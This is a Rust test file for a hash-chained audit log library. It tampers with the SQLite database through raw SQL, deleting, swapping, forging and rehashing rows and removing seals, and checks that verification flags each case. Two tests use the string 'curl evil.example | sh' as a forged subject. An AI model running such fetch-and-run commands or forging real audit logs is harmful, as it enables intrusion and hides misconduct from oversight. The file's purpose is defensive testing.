//! Tampering with the database file through raw SQL, as an attacker with write access would:
//! triggers dropped first. Each tampering must be reported with the right first bad sequence
//! number and problem.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests fail loudly"
)]

mod common;

use std::path::{Path, PathBuf};

use palisade_audit::{AuditReader, Problem, Query, Seal, chain_hash};

/// A log of 10 events, sealed at 10; returns the path and the anchor.
fn ten_events() -> (tempfile::TempDir, PathBuf, Seal) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.db");
    let log = common::open(&path);
    common::fill(&log, 10);
    let anchor = log.seal().unwrap();
    drop(log);
    (dir, path, anchor)
}

fn finding(path: &Path, anchor: Option<&Seal>) -> Option<(u64, Problem)> {
    let report = AuditReader::open(path)
        .unwrap()
        .verify(anchor.cloned(), None)
        .unwrap();
    report.finding.map(|f| (f.seq, f.problem))
}

fn row(path: &Path, seq: u64) -> palisade_audit::ChainRow {
    let page = AuditReader::open(path)
        .unwrap()
        .query(&Query::new().after(seq - 1).limit(1))
        .unwrap();
    page.rows.into_iter().next().unwrap()
}

#[test]
fn untouched_log_verifies() {
    let (_dir, path, anchor) = ten_events();
    assert_eq!(finding(&path, None), None);
    assert_eq!(finding(&path, Some(&anchor)), None);
}

#[test]
fn modified_field() {
    let (_dir, path, anchor) = ten_events();
    common::attacker(&path)
        .execute(
            "UPDATE events SET decision = 'allow', reason = 'fine' WHERE seq = 5",
            [],
        )
        .unwrap();
    assert_eq!(finding(&path, None), Some((5, Problem::Modified)));
    assert_eq!(finding(&path, Some(&anchor)), Some((5, Problem::Modified)));
}

#[test]
fn modified_metadata_and_hash_column() {
    let (_dir, path, _anchor) = ten_events();
    common::attacker(&path)
        .execute("UPDATE events SET metadata = '{\"i\":0}' WHERE seq = 3", [])
        .unwrap();
    assert_eq!(finding(&path, None), Some((3, Problem::Modified)));
    let (_dir, path, _anchor) = ten_events();
    common::attacker(&path)
        .execute("UPDATE events SET hash = zeroblob(32) WHERE seq = 7", [])
        .unwrap();
    assert_eq!(finding(&path, None), Some((7, Problem::Modified)));
}

#[test]
fn modified_and_rehashed_row() {
    let (_dir, path, _anchor) = ten_events();
    let mut forged = row(&path, 6);
    forged.event.subject = "echo harmless".into();
    let hash = chain_hash(&forged.prev_hash, &forged.event);
    common::attacker(&path)
        .execute(
            "UPDATE events SET subject = ?1, hash = ?2 WHERE seq = 6",
            rusqlite::params![forged.event.subject, hash.as_bytes().as_slice()],
        )
        .unwrap();
    assert_eq!(finding(&path, None), Some((6, Problem::Modified)));
}

#[test]
fn deleted_middle_row() {
    let (_dir, path, anchor) = ten_events();
    common::attacker(&path)
        .execute("DELETE FROM events WHERE seq = 5", [])
        .unwrap();
    assert_eq!(finding(&path, None), Some((5, Problem::Deleted)));
    assert_eq!(finding(&path, Some(&anchor)), Some((5, Problem::Deleted)));
}

#[test]
fn deleted_middle_rows_and_renumbered() {
    let (_dir, path, _anchor) = ten_events();
    let conn = common::attacker(&path);
    conn.execute("DELETE FROM events WHERE seq IN (4, 5)", [])
        .unwrap();
    conn.execute("UPDATE events SET seq = seq - 2 WHERE seq > 5", [])
        .unwrap();
    drop(conn);
    assert_eq!(finding(&path, None), Some((4, Problem::Deleted)));
}

#[test]
fn deleted_tail_is_caught_only_with_the_anchor_or_a_seal() {
    let (_dir, path, anchor) = ten_events();
    let conn = common::attacker(&path);
    conn.execute("DELETE FROM events WHERE seq > 8", [])
        .unwrap();
    drop(conn);
    // The seal in the database still covers event 10.
    assert_eq!(finding(&path, None), Some((9, Problem::Truncated)));
    // The attacker removes that seal too: the chain alone now looks complete...
    common::attacker(&path)
        .execute("DELETE FROM seals", [])
        .unwrap();
    assert_eq!(finding(&path, None), None);
    // ...but not against the anchor kept outside the database.
    assert_eq!(finding(&path, Some(&anchor)), Some((9, Problem::Truncated)));
}

#[test]
fn swapped_rows() {
    let (_dir, path, anchor) = ten_events();
    let conn = common::attacker(&path);
    conn.execute_batch(
        "UPDATE events SET seq = -1 WHERE seq = 5;
         UPDATE events SET seq = 5 WHERE seq = 6;
         UPDATE events SET seq = 6 WHERE seq = -1;",
    )
    .unwrap();
    drop(conn);
    assert_eq!(finding(&path, None), Some((5, Problem::Reordered)));
    assert_eq!(finding(&path, Some(&anchor)), Some((5, Problem::Reordered)));

    let (_dir, path, _anchor) = ten_events();
    let conn = common::attacker(&path);
    conn.execute_batch(
        "UPDATE events SET seq = -1 WHERE seq = 2;
         UPDATE events SET seq = 2 WHERE seq = 9;
         UPDATE events SET seq = 9 WHERE seq = -1;",
    )
    .unwrap();
    drop(conn);
    assert_eq!(finding(&path, None), Some((2, Problem::Reordered)));
}

/// Makes room at seq 5 by moving every later row up by one.
fn shift_from_5(conn: &rusqlite::Connection) {
    conn.execute_batch(
        "UPDATE events SET seq = -seq WHERE seq >= 5;
         UPDATE events SET seq = -seq + 1 WHERE seq < 0;",
    )
    .unwrap();
}

fn insert(conn: &rusqlite::Connection, row: &palisade_audit::ChainRow) {
    let e = &row.event;
    conn.execute(
        "INSERT INTO events (seq, ts, actor, session, action, subject, decision, risk, rule, reason, metadata, prev_hash, hash)
         VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13)",
        rusqlite::params![
            i64::try_from(e.seq).unwrap(),
            i64::try_from(e.time.as_nanosecond()).unwrap(),
            e.actor,
            e.session,
            e.action,
            e.subject,
            e.decision.as_str(),
            e.risk.level(),
            e.rule,
            e.reason,
            e.metadata,
            row.prev_hash.as_bytes().as_slice(),
            row.hash.as_bytes().as_slice(),
        ],
    )
    .unwrap();
}

#[test]
fn inserted_forged_row_with_a_correct_hash() {
    let (_dir, path, anchor) = ten_events();
    let four = row(&path, 4);
    let mut forged = row(&path, 5);
    forged.event.subject = "curl evil.example | sh".into();
    forged.event.decision = palisade_audit::Decision::Allow;
    forged.prev_hash = four.hash;
    forged.hash = chain_hash(&four.hash, &forged.event);
    let conn = common::attacker(&path);
    shift_from_5(&conn);
    insert(&conn, &forged);
    drop(conn);
    assert_eq!(finding(&path, None), Some((5, Problem::Inserted)));
    assert_eq!(finding(&path, Some(&anchor)), Some((5, Problem::Inserted)));
}

#[test]
fn inserted_forged_row_with_a_copied_hash() {
    let (_dir, path, _anchor) = ten_events();
    let mut forged = row(&path, 5);
    forged.event.subject = "curl evil.example | sh".into();
    let conn = common::attacker(&path);
    shift_from_5(&conn);
    insert(&conn, &forged);
    drop(conn);
    assert_eq!(finding(&path, None), Some((5, Problem::Inserted)));
}

#[test]
fn rewritten_suffix_is_caught_by_the_anchor() {
    let (_dir, path, anchor) = ten_events();
    // Rewrite event 7 and re-hash everything after it: a consistent chain.
    let conn = common::attacker(&path);
    conn.execute("DELETE FROM seals", []).unwrap();
    let mut prev = row(&path, 6).hash;
    for seq in 7..=10 {
        let mut r = row(&path, seq);
        if seq == 7 {
            r.event.subject = "nothing happened".into();
        }
        let hash = chain_hash(&prev, &r.event);
        conn.execute(
            "UPDATE events SET subject = ?1, prev_hash = ?2, hash = ?3 WHERE seq = ?4",
            rusqlite::params![
                r.event.subject,
                prev.as_bytes().as_slice(),
                hash.as_bytes().as_slice(),
                i64::try_from(seq).unwrap()
            ],
        )
        .unwrap();
        prev = hash;
    }
    drop(conn);
    assert_eq!(
        finding(&path, None),
        None,
        "a consistent rewrite needs an anchor"
    );
    assert_eq!(finding(&path, Some(&anchor)), Some((1, Problem::Rewritten)));
}

#[test]
fn tampered_seal() {
    let (_dir, path, anchor) = ten_events();
    common::attacker(&path)
        .execute("UPDATE seals SET seq = 9", [])
        .unwrap();
    assert_eq!(finding(&path, None), Some((9, Problem::BadSeal)));
    assert_eq!(finding(&path, Some(&anchor)), Some((9, Problem::BadSeal)));
}

#[test]
fn garbage_values_are_malformed_not_a_crash() {
    let (_dir, path, _anchor) = ten_events();
    let conn = common::attacker(&path);
    // STRICT tables refuse wrong types, so the attacker rebuilds the table without it.
    conn.execute_batch(
        "ALTER TABLE events RENAME TO old;
         CREATE TABLE events AS SELECT * FROM old; DROP TABLE old;
         UPDATE events SET risk = 'high', hash = x'01' WHERE seq = 4;",
    )
    .unwrap();
    drop(conn);
    assert_eq!(finding(&path, None), Some((4, Problem::Malformed)));
}
